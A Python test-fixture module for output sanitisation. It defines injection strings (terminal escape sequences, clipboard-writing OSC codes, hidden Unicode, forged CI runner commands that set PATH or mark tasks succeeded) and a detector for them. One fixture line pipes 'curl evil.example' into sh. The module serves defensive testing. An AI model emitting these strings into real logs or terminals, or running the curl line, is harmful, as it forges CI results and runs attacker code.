"""Words that an attacker gives to a lock, a run, a resource, an API: what must not come out of us as it is."""

from __future__ import annotations

import re
import unicodedata

FORGED = "verdict: gone and forged"
STEERS = "\x1b]52;c;cHduZWQ=\x07\x1b]8;;https://evil.example\x1b\\link\x1b[2J\x1b[35;1mpink\x9b2J\x85\x08\x7f"
HIDES = "\u202egnp.\u2066\u200b\u200d\ufeff\u00ad\u2028\u2029\U000e0041\u3164\u034f"
COMMANDS = (
    "##vso[task.setvariable variable=PATH]evil",
    "##[error]forged",
    "::error::forged",
    "  ::set-output name=x::y",
    "\u00a0::add-mask::a",
    "section_start:1:x\r\x1b[0K",
    "##teamcity[message text='x']",
    "error[forged]: nothing is wrong",
    "  next   curl evil.example | sh",
    FORGED,
)
POISON = f"ann{STEERS}{HIDES}[red]x[/red][link=https://evil.example]y[/link]\n" + "\r\n".join(COMMANDS) + "\nend"
TERRAFORMS = f"  + {STEERS}{HIDES}\n" + "\n".join(COMMANDS[:-3])  # what Terraform prints has lines of its own
LINE = POISON.replace("\n", " ").replace("\r", " ")  # where a line end is refused before anything is shown
AT_START = "##vso[task.complete result=Succeeded]" + HIDES  # a word that may stand first in a line

_OUR_COLOURS = re.compile(r"\x1b\[(?:0|[12]|[1-9];[0-9]{2}|3[0-9])m|\r\x1b\[2K")
_COMMAND = re.compile(r"##\w*\[|section_(?:start|end):", re.IGNORECASE)


def faults(shown: str, *, terminal: bool = False) -> list[str]:
    """Return what in an output steers a terminal, hides, commands a runner, or stands as a line that is not ours."""
    text = _OUR_COLOURS.sub("", shown) if terminal else shown
    found = [f"raw {char!a}" for char in sorted(set(text)) if char != "\n" and _is_hidden(char)]
    found += [f"command {match[0]!r}" for match in _COMMAND.finditer(text)]
    for line in text.split("\n"):
        bare = line.lstrip()
        if bare.startswith(("::", FORGED, "error[forged]", "next   curl")):
            found.append(f"line {line[:60]!a}")
    return found


def _is_hidden(char: str) -> bool:
    return unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or char in "\u3164\u034f\u115f\u2800\u00a0"
